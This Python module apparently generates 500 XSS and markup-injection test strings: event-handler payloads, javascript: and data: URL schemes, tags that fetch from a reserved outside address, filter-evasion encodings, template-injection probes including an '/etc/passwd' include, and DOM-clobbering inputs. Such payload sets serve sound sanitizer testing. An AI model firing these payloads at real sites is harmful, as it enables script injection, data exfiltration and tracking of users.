"""Five hundred texts that would run a script or fetch something where a page took them for markup."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import islice, product

OUTSIDE = "203.0.113.9"
"""An address kept for documentation (RFC 5737): nothing is there."""
COUNT = 500
_RUN = f"window.ran=1;fetch('//{OUTSIDE}/ran')"

_HANDLERS = (
    ("img src=x", "onerror"),
    ("svg", "onload"),
    ("svg><animate attributeName=x dur=1s", "onbegin"),
    ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("a tabindex=0 autofocus href=#", "onfocus"),
    ("details open", "ontoggle"),
    ("video src=x", "onerror"),
    ("audio src=x", "onerror"),
    ("video><source", "onerror"),
    ("object data=x", "onerror"),
    ("iframe srcdoc=x", "onload"),
    ("body", "onload"),
    ("body", "onpageshow"),
    ("marquee", "onstart"),
    ("math><mtext", "onpointerover"),
    ("style", "onload"),
    ("link rel=stylesheet href=x", "onerror"),
    ("script src=x", "onerror"),
    ("image src=x", "onerror"),
    ("dialog open", "onclose"),
    ("div style=animation-name:settle", "onanimationstart"),
    ("p popover id=x", "onbeforetoggle"),
    ("button popovertarget=x autofocus", "onclick"),
)
_WRITTEN = (
    "<{tag} {event}={run}>",
    '<{tag} {event}="{run}">',
    "<{tag}/{event}='{run}'>",
    "<{upper} {EVENT}={run}//",
    '"><{tag} {event}={run}>',
    "'><{tag}\n{event}\n=\n{run}>",
    "</title></textarea></style></script><{tag} {event}={run}>",
    "A sentence that ends with <{tag} id=x {event}=`{run}`>.",
)
_SCHEMES = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    "java\tscript:{run}",
    "java\nscript:{run}",
    " \x01javascript:{run}",
    "javascript&colon;{run}",
    "&#106;avascript:{run}",
    "javascript://%0a{run}",
    "vbscript:{run}",
    "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{run}'/>",
    "view-source:javascript:{run}",
    "blob:javascript:{run}",
)
_CARRIED = (
    '<a href="{url}">read</a>',
    "[read]({url})",
    "![chart]({url})",
    "<{url}>",
    '<iframe src="{url}"></iframe>',
    '<form action="{url}"><button autofocus>go</button></form>',
    '<svg><a xlink:href="{url}"><text>x</text></a></svg>',
    '<meta http-equiv=refresh content="0;url={url}">',
    '<object data="{url}"></object>',
    '<base href="{url}">',
)
_FETCHED = (
    "<img src={at}>",
    "![x]({at})",
    "![x][y]\n\n[y]: {at}",
    "<img srcset='{at} 2x'>",
    "<picture><source srcset={at}><img></picture>",
    "<link rel=stylesheet href={at}>",
    "<link rel=prefetch href={at}>",
    "<link rel=preconnect href={at}>",
    "<link rel=dns-prefetch href={at}>",
    "<link rel=modulepreload href={at}>",
    "<link rel=manifest href={at}>",
    "<link rel=icon href={at}>",
    "<style>@import '{at}';</style>",
    "<style>*{{background:url({at})}}</style>",
    "<style>@font-face{{font-family:x;src:url({at})}}*{{font-family:x}}</style>",
    "<div style=background:url({at})>",
    "<style>input[value^=a]{{background:url({at})}}</style>",
    "<table background={at}><td background={at}>",
    "<video poster={at}><track default src={at}></video>",
    "<video autoplay src={at}></video>",
    "<audio autoplay src={at}></audio>",
    "<embed src={at}>",
    "<object data={at}></object>",
    "<iframe src={at}></iframe>",
    "<input type=image src={at}>",
    "<script src={at}></script>",
    "<script type=module>import '{at}'</script>",
    '<script type=importmap>{{"imports":{{"x":"{at}"}}}}</script>',
    '<script type=speculationrules>{{"prefetch":[{{"urls":["{at}"]}}]}}</script>',
    "<svg><image href={at} /></svg>",
    "<svg><use href={at}#x /></svg>",
    "<svg><filter id=f><feImage href={at} /></filter><rect filter=url(#f) /></svg>",
    "<svg><style>@import url({at})</style></svg>",
    "<math><maction actiontype=statusline href={at}>x</maction></math>",
    "<meta http-equiv=refresh content='0;url={at}'>",
    "<a ping={at} href=# autofocus>x</a>",
    "<form action={at}><input autofocus></form><script>document.forms[0].submit()</script>",
    "<base href={at}><img src=x>",
    "<portal src={at}></portal>",
    "<body background={at}>",
    "<applet code={at}></applet>",
    "<frameset><frame src={at}></frameset>",
)
_PLACES = (
    f"http://{OUTSIDE}/{{n}}",
    f"https://{OUTSIDE}/{{n}}?q=secret",
    "//n{n}.outside.example/{n}",
)
_ODD = (
    "</script><script>{run}</script>",
    "--><script>{run}</script>",
    "]]><script>{run}</script>",
    "</template><script>{run}</script>",
    "</noscript><script>{run}</script>",
    "<scr<script>ipt>{run}</script>",
    "<<script>{run}//<</script>",
    "<script\x0c>{run}</script>",
    "<script>/*\u2028{run}//*/</script>",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&amp;lt;script&amp;gt;{run}",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "%3Cscript%3E{run}%3C/script%3E",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "\uff1cscript\uff1e{run}\uff1c/script\uff1e",
    "<\u200bscript>{run}</script>",
    "\u202e<script>{run}</script>\u202c",
    "{{{{7*7}}}}{{{{config}}}}",
    "{{% include '/etc/passwd' %}}",
    "{{{{ ''.__class__.__mro__ }}}}",
    "${{{run}}}",
    "#{{{run}}}",
    "<%= {run} %>",
    "{{{{constructor.constructor('{run}')()}}}}",
    "'-{run}-'",
    '";{run};//',
    '\n\ndata: {{"text":"<script>{run}</script>"}}\n\nevent: claim\n\n',
    "<xml><?xml-stylesheet href='javascript:{run}'?></xml>",
    "<!--[if gte IE 4]><script>{run}</script><![endif]-->",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}></style></mglyph></table></mtext></math>",
    "<svg><foreignObject><body onload={run}></foreignObject></svg>",
    "<form id=attributes><input name=ownerDocument></form><img id=cookie name=getElementById>",
    "<a id=csrf><a id=csrf name=value href=javascript:{run}>",
    "```html\n<script>{run}</script>\n```",
    "| a | b |\n|---|---|\n| <img src=x onerror={run}> | {run} |",
    "[![x](http://203.0.113.9/i.png)](javascript:{run})",
    "<details open ontoggle={run}><summary>x</summary></details>",
)


def payloads(count: int = COUNT) -> list[str]:
    """Return the first `count` of them, families by turns, each another."""
    found = list(islice(_by_turns(), count))
    if len(set(found)) < count:
        raise ValueError(f"there are not {count} of them")
    return found


def _by_turns() -> Iterator[str]:
    families = [_handlers(), _schemes(), _fetched(), _odd()]
    seen: set[str] = set()
    while families:
        for family in list(families):
            text = next(family, None)
            if text is None:
                families.remove(family)
            elif text not in seen:
                seen.add(text)
                yield text


def _handlers() -> Iterator[str]:
    for written, (tag, event) in product(_WRITTEN, _HANDLERS):
        yield written.format(tag=tag, event=event, upper=tag.upper(), EVENT=event.upper(), run=_RUN)


def _schemes() -> Iterator[str]:
    for carried, scheme in product(_CARRIED, _SCHEMES):
        yield carried.format(url=scheme.format(run=_RUN))


def _fetched() -> Iterator[str]:
    for number, (place, fetched) in enumerate(product(_PLACES, _FETCHED)):
        yield fetched.format(at=place.format(n=number))


def _odd() -> Iterator[str]:
    for text in _ODD:
        yield text.format(run=_RUN)
